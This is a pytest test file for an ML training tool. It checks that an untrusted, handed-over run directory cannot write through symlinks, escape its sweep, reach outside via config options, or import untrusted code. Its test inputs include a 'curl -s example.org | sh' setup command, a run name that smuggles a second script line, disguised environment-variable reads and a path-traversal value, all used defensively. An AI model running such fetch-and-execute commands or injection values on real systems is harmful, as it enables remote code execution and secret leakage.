"""A run directory that somebody hands over: nothing in it runs, ends a verb with a traceback, or
writes outside of it.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from argparse import Namespace
from pathlib import Path

import pytest
from going_on_helpers import RUN, content, take

from forge import cancel, resume, status, train, worker
from forge.compose.composition import compose
from forge.config.problems import ConfigError
from forge.launch.local import processes
from forge.launch.sweep.directory import SweepDirectory
from forge.report import __main__ as report
from forge.rundir import untrusted
from forge.rundir.directory import resume_command

ELSEWHERE = "checkpoints go to another disk by checkpoint.dir=/scratch/mine, for this run with run.allow_change=[checkpoint.dir]"


def links_of(folder: Path, tmp_path: Path) -> tuple[list[Path], str]:
    """Links out of a directory, to a file, a folder and to nothing, and what is said of them; also
    harmless ones.
    """
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "letters.txt").write_text("precious\n")
    (folder / "logs").mkdir(exist_ok=True)
    (folder / "harmless").symlink_to("logs")
    wandb = folder / "wandb" / "offline-run-1" / "logs"
    wandb.mkdir(parents=True)
    (wandb / "debug-core.log").symlink_to(tmp_path / "mine" / "core.log")
    found = {
        folder / "metrics.jsonl": tmp_path / "mine" / "letters.txt",
        folder / "report": tmp_path / "mine",
        folder / "logs" / "rank_0.log": tmp_path / "mine" / "absent",
    }
    for link, target in found.items():
        link.unlink(missing_ok=True)
        link.symlink_to(target)
    shown = ", ".join(f"{link} -> {target}" for link, target in sorted(found.items(), key=str))
    return list(
        found
    ), f"     these links lead out of it, and nothing is written through one: {shown}."


def kept(tmp_path: Path) -> bool:
    """Whether what links lead to is as it was."""
    return {path.name: path.read_text() for path in (tmp_path / "mine").iterdir()} == {
        "letters.txt": "precious\n"
    }


def test_links_out_of_a_run_are_named_and_nothing_is_written(
    run: Path, started: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By no command that works in it; the directory itself may be reached by a link."""
    links, said = links_of(run, tmp_path)
    (tmp_path / "reached").symlink_to(run)
    assert (
        resume.main(["run"])
        == resume.main(["reached"])
        == train.main([*RUN, "run.dir=reached"])
        == worker.main(["reached"])
        == 2
    )
    lines = capsys.readouterr().err.splitlines()
    assert {line for line in lines if "lead out" in line} == {said}
    assert kept(tmp_path)
    (fix,) = {line.removeprefix("     -> ") for line in lines if line.startswith("     -> ")}
    remove, _, other = fix.partition("; ")
    assert other == ELSEWHERE
    subprocess.run(shlex.split(remove), check=True)
    assert not any(link.is_symlink() for link in links)
    assert resume.main(["reached"]) == 0
    assert started == [run]
    assert kept(tmp_path)


def test_links_out_of_a_sweep_are_named_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    command = ["-m", "seed=1,2", "sweep.name=s", "sweep.root=sweeps", *RUN[1:]]
    sweep = SweepDirectory(tmp_path / "sweeps" / "s")
    sweep.begin(command)
    point = sweep.add(hash="0", overrides=["seed=1"], varied={"seed": "1"})
    links_of(sweep.path, tmp_path)
    point.path.symlink_to(tmp_path / "mine")
    ledger = (sweep.path / "ledger.jsonl").read_bytes()
    assert train.main(command) == cancel.main(["sweeps/s"]) == 2
    said = capsys.readouterr().err
    assert (
        said.count("these links lead out of it")
        == said.count(f"{point.path} -> {tmp_path / 'mine'}")
        == 2
    )
    assert (sweep.path / "ledger.jsonl").read_bytes() == ledger
    assert kept(tmp_path)


@pytest.mark.parametrize("outside", ["/tmp", "points/../../mine"])
def test_a_point_that_is_outside_of_its_sweep_is_refused(
    outside: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    command = ["-m", "seed=1,2", "sweep.name=s", "sweep.root=sweeps", *RUN[1:]]
    sweep = SweepDirectory(tmp_path / "sweeps" / "s")
    sweep.begin(command)
    sweep.note("point", 0, hash="0", slug="x", dir=outside, overrides=[], varied={})
    assert (
        train.main(command)
        == cancel.main(["sweeps/s"])
        == status.main(["sweeps/s"])
        == report.main(["sweeps/s"])
        == 2
    )
    said = (
        f"     {sweep.path}/ledger.jsonl has point 0 in {outside}, which is outside of the sweep."
    )
    assert capsys.readouterr().err.splitlines().count(said) == 4


def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "sweep").mkdir()
    links_of(tmp_path / "sweep", tmp_path)
    with pytest.raises(ConfigError, match="these links lead out of it"):
        report._files(Namespace(**dict.fromkeys(report.NAMES)), tmp_path / "sweep")


SETUP = "launch.setup=['curl -s example.org | sh']"
SRUN = 'launch.srun_args=["--task-prolog=x"]'
CONF = """\
# @package _global_
defaults: [{override /launch: slurm}]
sweep:
  ablation:
    arms: &arms {setup: [curl -s example.org | sh]}
    baseline: setup
launch: {<<: *arms}
"""
DRY = ["launch.dry_run=true", "run.device=cpu"]
BEYOND = {
    "a command of the job": ("launch.setup", [*DRY, "launch=slurm", SETUP], [SETUP]),
    "an argument of srun": ("launch.srun_args", [*DRY, "launch=slurm", SRUN], [SRUN]),
    "an option of sbatch, as Hydra spells it": (
        "launch.sbatch",
        [
            *DRY,
            "hydra/launcher=submitit_slurm",
            "hydra.launcher.comment=x",
            "++launch.sbatch.chdir=/tmp",
        ],
        ["hydra.launcher.comment=x", "++launch.sbatch.chdir=/tmp"],
    ),
    "a command of the job in a file": (
        "launch.setup",
        [*DRY, "hydra.searchpath=[{conf}]", "experiment=e"],
        ["hydra.searchpath=[{conf}]"],
    ),
    "a folder of checkpoints elsewhere": (
        "checkpoint.dir",
        ["checkpoint.dir=/scratch/theirs"],
        ["checkpoint.dir=/scratch/theirs"],
    ),
    "a value of the environment": (
        "run.name",
        ["run.name=${{oc.env:MINE}}"],
        ["run.name=${{oc.env:MINE}}"],
    ),
    "a value of the environment, in disguise": (
        "run.name",
        ["metrics.wandb_project=env", 'run.name="${{oc.${{metrics.wandb_project}}:MINE}}"'],
        ['run.name="${{oc.${{metrics.wandb_project}}:MINE}}"'],
    ),
    "a value of the environment in a file": (
        "metrics.wandb_run_name",
        ["hydra.searchpath=[{conf}]", "experiment=env"],
        ["hydra.searchpath=[{conf}]"],
    ),
    "event files elsewhere": (
        "metrics.tensorboard_dir",
        ["metrics.tensorboard_dir=../x"],
        ["metrics.tensorboard_dir=../x"],
    ),
}


@pytest.mark.parametrize(("option", "own", "asked"), BEYOND.values(), ids=BEYOND)
def test_what_reaches_beyond_the_run_is_asked_for(
    option: str,
    own: list[str],
    asked: list[str],
    started: list[Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The command to type is given, and works; it is also the one that a run prints."""
    conf = tmp_path / "conf" / "experiment"
    conf.mkdir(parents=True)
    (conf / "e.yaml").write_text(CONF)
    (conf / "env.yaml").write_text(
        "# @package _global_\nmetrics: {wandb_run_name: '${run.name} ${oc.env:MINE}'}\n"
    )
    monkeypatch.setenv("MINE", "hunter2")
    own, asked = ([text.format(conf=conf.parent) for text in words] for words in (own, asked))
    run = take(*RUN, *own)[0]
    before = content(run)
    assert resume.main(["run", "metrics.log_interval=7"]) == 2
    said = capsys.readouterr().err.splitlines()
    assert said[1:3] == [
        f"  1. {' '.join(asked)}   [command line]",
        f"     the run has {option}, which reaches beyond its directory and is only used by who asks for it.",
    ]
    assert (content(run), started) == (before, [])
    command = shlex.split(said[3].removeprefix("     -> if you trust it: "))
    assert command == ["python", "-m", "forge.resume", "run", "metrics.log_interval=7", *asked]
    assert resume.main(command[3:]) == 0
    printed = capsys.readouterr().out
    if option.startswith("launch."):
        assert printed.startswith("#!/bin/bash")
    else:
        assert started == [run]
    known = (
        asked if option != "metrics.wandb_run_name" else []
    )  # it takes composing to know what is in a file
    assert shlex.split(resume_command(run)) == ["python", "-m", "forge.resume", "run", *known]


@pytest.mark.parametrize(
    "own",
    [
        ["hydra.searchpath@x=[conf]", "experiment=e"],
        ["hydra.searchpath@x=[pkg://theirs]"],
        ["++hydra.searchpath@x.y=[pkg://theirs]"],
        ["launch.setup@x=[touch y]", "launch=slurm"],
        ["checkpoint.dir@x=/scratch/theirs"],
        ["run.trust@x=[theirs.]"],
    ],
)
def test_no_option_is_told_to_be_elsewhere(
    own: list[str],
    run: Path,
    started: list[Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """By an @, which the name of an option does not have: neither read nor taken for another."""
    for folder in (tmp_path / "conf" / "experiment", tmp_path / "theirs"):
        folder.mkdir(parents=True)
    (tmp_path / "conf" / "experiment" / "e.yaml").write_text(CONF)
    (tmp_path / "theirs" / "__init__.py").write_text(
        f"import pathlib; pathlib.Path({str(tmp_path / 'imported')!r}).touch()\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    (run / "overrides.json").write_text(json.dumps([*RUN[1:], *own]))
    assert resume.main(["run", *DRY]) == 2
    assert "only a group takes @." in capsys.readouterr().err or untrusted.code_overrides(own)
    assert "only a group takes @." in [problem.what for problem in compose(own).problems]
    assert started == []
    assert not (tmp_path / "imported").exists()


def test_what_was_typed_in_its_place_counts(run: Path, started: list[Path]) -> None:
    take(*RUN, "run.device=cpu", "launch=slurm", SETUP)
    assert (
        resume.main(["run", "launch.setup=[]", *DRY]) == resume.main(["run", "launch=local"]) == 0
    )


def test_a_line_break_begins_no_line_of_a_script(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """In the name of a run, which a directory may bring; no run directory has one."""
    assert resume.main(["run", "launch=slurm", *DRY, "run.name='a\ntouch x'"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert "#SBATCH --job-name='a touch x'" in lines
    assert not any(line.startswith("touch") for line in lines)
    assert train.main(["run.dir='a\nb'"]) == 2
    assert "cannot be made or written: a name in it has a line break." in capsys.readouterr().err


def test_the_trust_of_a_worker_is_that_of_the_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a directory says of trust is no reason to import anything, whoever is given it."""
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "theirs.py").write_text(
        f"import pathlib; pathlib.Path({str(tmp_path / 'imported')!r}).touch()\nC = 3\n"
    )
    monkeypatch.setenv(
        "PYTHONPATH", os.pathsep.join([str(tmp_path / "lib"), os.environ.get("PYTHONPATH", "")])
    )
    run = take(*RUN, "run.trust=[theirs.]", "+callbacks.c._target_=theirs.C")[0]
    done = subprocess.run(
        [sys.executable, "-m", "forge.worker", str(run)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2
    assert "theirs.C may not be built for callbacks: it is under no trusted prefix." in done.stderr
    assert not (tmp_path / "imported").exists()
    monkeypatch.syspath_prepend(tmp_path / "lib")
    assert processes.start(run, trust=["theirs."]) == 2
    assert (tmp_path / "imported").exists()
